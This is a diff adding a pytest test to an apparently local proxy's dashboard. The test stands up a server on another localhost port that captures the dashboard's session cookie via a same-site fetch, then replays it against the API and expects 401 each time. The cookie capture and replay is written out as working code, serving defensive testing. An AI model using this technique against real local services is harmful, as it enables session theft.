@@ -11,8 +11,10 @@ from __future__ import annotations
 import shutil
 import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
+import requests
 from conftest import ROOT
 from helpers import curl, dashboard_login_url
 from upstreams import free_port
@@ -58,6 +60,44 @@ def traffic(origin):
 
     yield start
     stop.set()
+
+
+class OtherPort:
+    """What another local account can run: an HTTP server on 127.0.0.1:<its own port>. Its page
+    fetches its own origin (same-site with the dashboard: cookies and SameSite ignore ports),
+    and every request's headers are recorded. /start, reached as localhost, sends the browser
+    on to it, as any web page can."""
+
+    PAGE = b"<!doctype html><script>fetch('/collect')</script>"
+
+    def __init__(self) -> None:
+        received = self.received = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                received.append((self.path, dict(self.headers)))
+                port = self.server.server_address[1]
+                body = {"/": OtherPort.PAGE, "/start": b"<!doctype html><script>location="
+                        b"'http://127.0.0.1:%d/'</script>" % port}.get(self.path, b"ok")
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def request(self, path: str) -> dict | None:
+        return next((headers for p, headers in self.received if p == path), None)
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
 
 
 def _number(page, selector: str) -> int:
@@ -107,6 +147,68 @@ def test_browser_logs_in_with_the_one_time_link_and_without_it_sees_only_the_log
     stranger.fill('input[name="token"]', token.strip())  # the owner pasting the token
     stranger.click('button[type="submit"]')
     stranger.wait_for_selector(f'#recent tbody tr:has-text("{site}")')
+
+
+def test_the_cookie_a_page_on_another_port_receives_is_no_pass_to_the_dashboard(
+        start_proxy, browser, origin, tmp_path, monkeypatch):
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
+    admin_port = free_port("127.0.0.1")
+    base = f"http://127.0.0.1:{admin_port}"
+    proxy = start_proxy(f'admin = "127.0.0.1:{admin_port}"\ndefault = "direct"\n'
+                        '[exits.direct]\n')
+    (tmp_path / "blocking.toml").write_text('default = "block"\n[exits.direct]\n')
+    site = f"127.0.0.1:{origin.port}"
+    assert curl("-x", proxy.url, origin.url("/echo")).returncode == 0  # history exists
+    owner = browser.new_context()
+    page = owner.new_page()
+    streams = []
+    page.on("request", lambda r: streams.append(r.headers) if r.url == base + "/api/events"
+            else None)
+    page.goto(dashboard_login_url(proxy))
+    page.wait_for_selector(f'#recent tbody tr:has-text("{site}")')
+    assert page.url == base + "/"  # neither login token nor page key in the address bar
+
+    other = OtherPort()
+    try:
+        visit = owner.new_page()
+        visit.goto(f"http://localhost:{other.port}/start")  # any page can send us there
+        _wait_until(lambda: other.request("/collect") is not None, 10, "the page's fetch")
+        stolen = other.request("/collect")
+        assert other.request("/").get("Cookie") is None  # a cross-site navigation: Strict
+        assert f"anonproxy-{admin_port}=" in stolen["Cookie"]  # ...but its own fetch: the leak
+        assert visit.evaluate("localStorage.length") == 0  # the page key stays on its origin
+    finally:
+        other.stop()
+    replay = {k: v for k, v in stolen.items() if k.lower() != "host"}
+    replay |= {"X-Anonproxy-Request": "1", "Origin": base}  # what a client can add anyway
+    with requests.Session() as outside:
+        outside.trust_env = False
+        for path in ("/api/connections", "/api/state", "/api/status", "/api/events"):
+            answer = outside.get(base + path, headers=replay, timeout=10)
+            assert answer.status_code == 401 and site not in answer.text, (path, answer.text)
+        switch = outside.post(base + "/api/profile", json={"profile": "blocking"},
+                              headers=replay, timeout=10)
+        assert switch.status_code == 401, switch.text
+
+    cookie_only = browser.new_context()  # a browser with the cookie but not the key
+    cookie_only.add_cookies(owner.cookies())
+    shell = cookie_only.new_page()
+    answers = []
+    shell.on("response", lambda r: answers.append(r.status) if "/api/" in r.url else None)
+    shell.goto(base + "/")
+    shell.wait_for_url(base + "/login")  # the shell's script found no key: the login form
+    shell.wait_for_selector('form#login input[name="token"]')
+    assert 200 not in answers and site not in shell.content()
+    cookie_only.close()
+
+    page.reload()  # the key is kept (localStorage), and the page gets data, live ticks...
+    page.wait_for_selector(f'#recent tbody tr:has-text("{site}")')
+    page.wait_for_selector("#live.on")
+    assert page.text_content("#profile") == "test"
+    assert streams and all(h.get("x-anonproxy-session") for h in streams)
+    page.click("#btn-reload")  # ...and its buttons work
+    page.wait_for_selector('#message:has-text("reloaded profile test")')
+    page.wait_for_selector('#reloads:text-is("1")')
 
 
 @pytest.mark.tor
